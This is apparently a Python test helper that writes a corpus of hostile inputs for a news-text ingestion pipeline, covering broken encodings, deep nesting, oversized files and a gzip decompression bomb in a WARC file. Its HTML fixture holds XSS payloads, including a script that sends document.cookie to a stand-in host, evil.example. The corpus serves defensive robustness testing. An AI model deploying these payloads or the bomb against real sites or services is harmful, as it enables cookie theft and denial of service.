"""Generate a corpus of hostile input files (issue 7) into a folder.

Why a generator and not committed files: the corpus holds files of tens of megabytes
and binary junk; writing them at test time keeps the repository small and lets each
test decide which ones it can afford. Every file is written by this script; the good
articles are fiction written for the tests.

Each entry says what must happen to it: ``ok`` (becomes an article), ``refused`` (one
error line naming the file and reason) or ``either`` (a result or a reason; never a
crash). ``python tests/hostile.py DIR`` writes the whole corpus, big files included.
"""

from __future__ import annotations

import gzip
import json
import sys
from dataclasses import dataclass
from pathlib import Path

GOOD_TEXT = (
    "Harbor talks resume in Aldermere\n\n"
    "By Dana Whitlock\n\n"
    "ALDERMERE, 3 March 2025 - Negotiators from Vrana and Kestrel met on Monday in Aldermere "
    "to resume talks over the disputed harbor, the foreign ministry said.\n\n"
    "Minister Ilsa Moren said the two delegations agreed to meet again next week. "
    "Officials said a draft accord could be signed by the end of the month.\n"
)


@dataclass(frozen=True)
class Hostile:
    name: str
    expect: str  # "ok", "refused" or "either"
    why: str


def _good(i: int) -> str:
    return GOOD_TEXT.replace("Aldermere", f"Aldermere{i}" if i else "Aldermere")


def _write(root: Path, name: str, data: bytes | str) -> None:
    p = root / name
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _sparse(path: Path, size: int, fill: bytes = b"") -> None:
    """A file of ``size`` bytes without writing them (holes read as NULs): a huge input
    costs no disk and no time to make, and must be refused by its size alone."""
    with open(path, "wb") as fh:
        fh.write(fill)
        fh.truncate(size)


def _long_line(path: Path, size: int) -> None:
    """One line of ``size`` bytes of words, no newline, streamed in 1 MB pieces."""
    chunk = (b"the harbor talks went on and on " * 32768)[: 1 << 20]
    with open(path, "wb") as fh:
        left = size
        while left > 0:
            fh.write(chunk[:left])
            left -= len(chunk)


def _nested_html(depth: int) -> str:
    return ("<html><body>" + "<div>" * depth + "<p>" + GOOD_TEXT.replace("\n", " ") + "</p>"
            + "</div>" * depth + "</body></html>")


SCRIPT_HTML = """<html><head><title>Harbor accord signed</title>
<script>document.write('INJECTED'); fetch('http://evil.example/'+document.cookie)</script>
</head><body onload="alert('onload')">
<article><h1>Harbor accord signed <img src=x onerror="alert('xss')"></h1>
<p>ALDERMERE, 4 March 2025 - Vrana and Kestrel signed the harbor accord on Tuesday, officials
said. <a href="javascript:alert(1)">More</a></p>
<p>Minister Ilsa Moren said the accord ends a dispute that began in 2019.</p>
<svg onload="alert('svg')"></svg><iframe src="javascript:alert(2)"></iframe>
</article></body></html>"""

RTL_TEXT = (
    "محادثات الميناء تستأنف\n\n"
    "ALDERMERE, 3 March 2025 - Negotiators met on Monday; the sign read \u202eDROCCA\u202c "
    "and the banner said \u05e9\u05dc\u05d5\u05dd (shalom) beside \u0645\u0631\u062d\u0628\u0627.\n\n"
    "Минister Ilsa Moren said 会谈 will resume next week, ελπίζουμε. "
    "Zero\u200bwidth\u200djoiners and \ufeff stray BOMs sit inside words.\n"
)

BAD_DATES = (
    "Officials dispute the timeline\n\n"
    "ALDERMERE, 31 February 2025 - The accord was signed on 31 February, officials said, "
    "on the 45th of the month, and again on 30/02/2025 and 2025-13-45.\n\n"
    "A spokesman said talks began on the 99th day of Smarch and end on February 30th, 2024. "
    "The minister said 0 January 0000 and 9999-99-99 were never dates.\n"
)

JSONL_BROKEN = "\n".join([
    json.dumps({"id": "j-good-1", "title": "Talks resume", "text": _good(11), "published": "2025-03-03"}),
    '{"id": "j-broken", "text": "unterminated',
    "not json at all",
    json.dumps(["a", "list"]),
    json.dumps({"id": "j-notext", "title": "No body"}),
    json.dumps({"id": "j-baddate", "text": _good(12), "published": "31 February 2025"}),
    json.dumps({"id": "j-nested", "text": {"deep": [1, 2, 3]}, "html": 42}),
    '{"id": "j-deep", "text": ' + "[" * 50_000 + "]" * 50_000 + "}",
    json.dumps({"id": "j-good-2", "title": "Talks again", "text": _good(13)}),
])


def _small_files(root: Path) -> list[Hostile]:
    """The fast part of the corpus: every case but the multi-megabyte ones."""
    cases: list[tuple[str, bytes | str, str, str]] = [
        ("good-01.txt", _good(1), "ok", "plain good article"),
        ("good-02.html", f"<html><body><p>{_good(2)}</p></body></html>", "ok", "good HTML"),
        ("empty.txt", b"", "refused", "empty file"),
        ("whitespace.txt", b"   \n\t\n  ", "refused", "only whitespace"),
        ("binary.txt", bytes(range(256)) * 64, "refused", "binary data named .txt"),
        ("png.txt", b"\x89PNG\r\n\x1a\n" + bytes(2000), "refused", "a PNG named .txt"),
        ("nul.txt", _good(3).encode() + b"\x00\x00bad\x00", "refused", "NUL bytes inside text"),
        ("invalid-utf8.txt", _good(4).encode() + b"\xff\xfe\xc3\x28 caf\xe9 \x80\x81", "either",
         "invalid UTF-8 sequences"),
        ("utf16-bom.txt", _good(5).encode("utf-16"), "ok", "UTF-16 with BOM"),
        ("utf16le-nobom.txt", _good(6).encode("utf-16-le"), "either", "UTF-16 without BOM"),
        ("cp1252.txt", (_good(7) + "\u201cQuoted\u201d \u2014 caf\u00e9 \u20ac5 na\u00efve.\n").encode("cp1252"),
         "ok", "Windows-1252"),
        ("latin1.txt", (_good(8) + "Se\u00f1or M\u00fcller, d\u00e9j\u00e0 vu, \u00bd.\n").encode("latin-1"),
         "ok", "Latin-1"),
        ("rtl-mixed.txt", RTL_TEXT, "ok", "right-to-left and mixed scripts, bidi controls"),
        ("bad-dates.txt", BAD_DATES, "ok", "impossible dates (31 February, the 45th)"),
        ("scripts.html", SCRIPT_HTML, "ok", "HTML with scripts and event handlers"),
        ("broken.jsonl", JSONL_BROKEN, "either", "JSONL with broken lines"),
        ("broken.json", '{"text": "cut off', "refused", "truncated JSON"),
        ("deep.json", "[" * 100_000 + "]" * 100_000, "refused", "JSON nested 100,000 deep"),
        ("unknown.exe", b"MZ\x90\x00", "refused", "unsupported extension"),
        ("archive.txt.gz", gzip.compress(_good(9).encode()), "refused", "gzip outside WARC"),
        ("controls.txt", "".join(chr(c) for c in range(1, 32)) * 50, "refused", "control characters"),
        ("lone-surrogate-ish.txt", b"Harbor talks \xed\xa0\x80 resumed on Monday in Aldermere, officials said.",
         "either", "UTF-8-encoded surrogate"),
        ("tags-only.html", "<html><body><div></div><script>x()</script></body></html>", "either",
         "HTML with no visible text"),
        ("unclosed.html", "<html><body><p>" + _good(10) + "<div><span><b><i>" * 2000, "either",
         "thousands of unclosed tags"),
    ]
    for name, data, _, _ in cases:
        _write(root, name, data)
    _write(root, "nested-100k.html", _nested_html(100_000))
    out = [Hostile(n, e, w) for n, _, e, w in cases]
    out.append(Hostile("nested-100k.html", "either", "HTML nested 100,000 levels deep"))
    return out


def _bomb_warc(path: Path, size: int) -> None:
    """A .warc.gz whose one HTML response inflates to ``size`` bytes (a decompression
    bomb: a few hundred kilobytes on disk), written with a streaming gzip writer."""
    head = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % size)
    block = len(head) + size
    warc = (b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://bomb.example/a\r\n"
            b"WARC-Date: 2025-03-03T00:00:00Z\r\nWARC-Record-ID: <urn:uuid:00000000-0000-0000-0000-000000000001>\r\n"
            b"Content-Type: application/http; msgtype=response\r\nContent-Length: %d\r\n\r\n" % block)
    zeros = b"<p>" + b"a" * ((1 << 20) - 3)
    with gzip.open(path, "wb", compresslevel=9) as fh:
        fh.write(warc + head)
        left = size
        while left > 0:
            fh.write(zeros[:left])
            left -= len(zeros)
        fh.write(b"\r\n\r\n")


def big_files(root: Path, huge_bytes: int = 200 << 20, line_bytes: int = 50 << 20,
              bomb_bytes: int = 1 << 30) -> list[Hostile]:
    """The large inputs: a sparse 200 MB text, one 50 MB line, a gzip bomb in a WARC."""
    root.mkdir(parents=True, exist_ok=True)
    _sparse(root / "huge-200mb.txt", huge_bytes, fill=_good(14).encode())
    _long_line(root / "line-50mb.txt", line_bytes)
    out = [Hostile("huge-200mb.txt", "refused", "200 MB text file"),
           Hostile("line-50mb.txt", "refused", "one 50 MB line, no newline")]
    try:
        import warcio  # noqa: F401  (WARC input needs the fetch extra)
    except ImportError:
        return out
    _bomb_warc(root / "bomb.warc.gz", bomb_bytes)
    out.append(Hostile("bomb.warc.gz", "refused", f"decompression bomb ({bomb_bytes >> 20} MB inflated)"))
    return out


def write_corpus(root: Path, big: bool = False) -> list[Hostile]:
    """Write the corpus under ``root``; ``big`` adds the multi-megabyte files."""
    root.mkdir(parents=True, exist_ok=True)
    cases = _small_files(root)
    if big:
        cases += big_files(root)
    return cases


if __name__ == "__main__":  # pragma: no cover - manual use
    for case in write_corpus(Path(sys.argv[1]), big=True):
        print(f"{case.expect:8} {case.name:24} {case.why}")
